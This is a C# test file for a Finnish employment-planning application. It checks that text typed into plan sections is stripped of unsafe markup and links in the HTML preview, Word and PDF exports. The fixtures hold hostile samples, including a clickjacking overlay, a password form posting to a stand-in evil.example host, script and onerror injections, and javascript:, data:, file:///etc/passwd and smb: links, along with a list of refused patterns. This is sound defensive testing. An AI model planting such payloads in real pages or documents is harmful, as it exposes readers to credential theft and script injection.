using DocumentFormat.OpenXml.Packaging;
using TyollisyysAlue.Application.Plans.Export;
using TyollisyysAlue.Infrastructure.Exports.Plans;
using TyollisyysAlue.Infrastructure.Markup;
using TyollisyysAlue.Texts;
using UglyToad.PdfPig;
using UglyToad.PdfPig.Actions;
using UglyToad.PdfPig.Annotations;

namespace TyollisyysAlue.Infrastructure.Tests.Plans;

/// <summary>
/// What a planner types (or pastes) into a section cannot take over a reader's screen or hand out dangerous links:
/// the page preview, the PDF's link actions and the .docx's hyperlink relationships apply one allow-list
/// (issue 11 findings 2 and 3).
/// </summary>
public class PlanTextAllowListTests
{
    private const string Overlay =
        """<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100%;height:100%;opacity:0;z-index:9999">.</a>""";

    private static readonly string Hostile = string.Join("\n\n",
        $"Alku {Overlay} loppu.",
        """<form action="https://evil.example/steal"><input name="salasana"><button>Lähetä</button></form>""",
        """<img src="https://evil.example/pixel.png" onerror="alert(1)">""",
        "![seurantapikseli](https://evil.example/pixel.png)",
        """<iframe src="https://evil.example/"></iframe><script>alert(1)</script>""",
        """<p onclick="alert(1)" style="color:red">Kappale</p>""",
        "[tiedosto](file:///etc/passwd) [jako](smb://palvelin/jako) [haku](search-ms:query=salasana) " +
        "[skripti](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [toinen](//evil.example/x)",
        "[TEM](https://tem.fi/te-uudistus) [posti](mailto:kirjaamo@example.fi) [suunnitelma](/areas/porvoo/plan)");

    private static readonly string[] Refused =
        ["evil.example", "file:", "smb:", "search-ms:", "javascript:", "data:", "style", "position:fixed", "<form", "<input", "<img", "<iframe", "<script", "onerror", "onclick"];

    [Fact]
    public void The_preview_keeps_the_words_but_no_overlay_form_image_frame_script_handler_or_unsafe_link()
    {
        var html = PlanHtml.Render(Hostile, sectionLevel: 1);

        foreach (var refused in Refused) Assert.DoesNotContain(refused, html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("Alku . loppu.", html, StringComparison.Ordinal);
        Assert.Contains("seurantapikseli", html, StringComparison.Ordinal);
        Assert.Contains("<p>tiedosto jako haku skripti data toinen</p>", html, StringComparison.Ordinal);
        Assert.Contains("""<a href="https://tem.fi/te-uudistus">TEM</a>""", html, StringComparison.Ordinal);
        Assert.Contains("""<a href="mailto:kirjaamo@example.fi">posti</a>""", html, StringComparison.Ordinal);
        Assert.Contains("""<a href="/areas/porvoo/plan">suunnitelma</a>""", html, StringComparison.Ordinal);
    }

    [Fact]
    public void The_docx_has_hyperlink_relationships_only_for_http_https_and_mailto()
    {
        using var word = WordprocessingDocument.Open(new MemoryStream(PlanDocxExporter.Render(Document())), false);
        var main = word.MainDocumentPart!;

        Assert.Equal(["https://tem.fi/te-uudistus", "mailto:kirjaamo@example.fi"],
            main.HyperlinkRelationships.Select(r => r.Uri.ToString()).Order(StringComparer.Ordinal));
        Assert.Empty(main.ImageParts);
        Assert.Empty(main.ExternalRelationships);
        var text = main.Document.Body!.InnerText;
        foreach (var refused in Refused) Assert.DoesNotContain(refused, text, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("tiedosto", text, StringComparison.Ordinal);
    }

    [Fact]
    public void The_pdf_has_link_actions_only_for_http_https_and_mailto()
    {
        using var pdf = PdfDocument.Open(PlanPdfExporter.Render(Document()));
        var uris = pdf.GetPages().SelectMany(p => p.GetAnnotations())
            .Where(a => a.Type == AnnotationType.Link).Select(a => a.Action).OfType<UriAction>().Select(a => a.Uri).ToList();

        Assert.Equal(["https://tem.fi/te-uudistus", "mailto:kirjaamo@example.fi"], uris.Order(StringComparer.Ordinal));
        var text = string.Join("\n", pdf.GetPages().Select(p => p.Text));
        foreach (var refused in Refused) Assert.DoesNotContain(refused, text, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("https://tem.fi/", true)]
    [InlineData("HTTP://tem.fi/", true)]
    [InlineData("mailto:kirjaamo@example.fi", true)]
    [InlineData("/areas/porvoo/plan", true)]
    [InlineData("liite.pdf#sivu2", true)]
    [InlineData("#kohta-3", true)]
    [InlineData("javascript:alert(1)", false)]
    [InlineData("java\tscript:alert(1)", false)]
    [InlineData(" JavaScript:alert(1)", false)]
    [InlineData("data:text/html,x", false)]
    [InlineData("file:///etc/passwd", false)]
    [InlineData("smb://palvelin/jako", false)]
    [InlineData("search-ms:query=x", false)]
    [InlineData("//evil.example/x", false)]
    [InlineData(@"\\palvelin\jako", false)]
    [InlineData("vbscript:msgbox", false)]
    [InlineData("", false)]
    public void The_address_rule_allows_http_https_mailto_and_relative_only(string url, bool allowed) =>
        Assert.Equal(allowed, SafeUrl.IsAllowed(url));

    private static PlanDocument Document() => new("fi", "Palveluiden järjestämissuunnitelma", "Porvoon työllisyysalue", "1.0",
        new DateOnly(2025, 6, 12), new TextCode("PlanExport.Status.Draft"),
        [new PlanDocumentSection("1", "Johdanto", 1, Hostile, [])]);
}
